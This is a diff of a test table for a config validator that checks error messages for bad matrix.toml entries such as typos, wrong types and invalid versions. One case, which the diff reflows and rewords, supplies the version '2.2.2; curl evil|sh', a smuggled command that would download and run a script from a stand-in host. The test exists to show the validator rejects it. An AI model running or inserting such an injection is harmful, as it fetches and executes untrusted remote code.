@@ -161,7 +161,12 @@ device = ["cpu"]
     ("head", "version", "tail", "message"),
     [
         ("", "2.2.2", "", "the set 'mine' names no probe"),
-        ("", "2.2.2; curl evil|sh", "", "matrix.toml: sets.mine: version '2.2.2; curl evil|sh' is no release number"),
+        (
+            "",
+            "2.2.2; curl evil|sh",
+            "",
+            "matrix.toml: sets.mine: version '2.2.2; curl evil|sh' is not a release number",
+        ),
         ("", "2.2.2", "[sets.mine.probes.mnist]\nepoch = 3", "sets.mine.probes: mnist has no setting 'epoch' (did you"),
         ("", "2.2.2", "[sets.mine.probes.mnist]\nepochs = 'x'", "sets.mine.probes: epochs is int, such as 3"),
         ("executor = 'dokcer'", "2.2.2", "[sets.mine.probes.mnist]", "no executor 'dokcer' (did you mean 'docker'"),
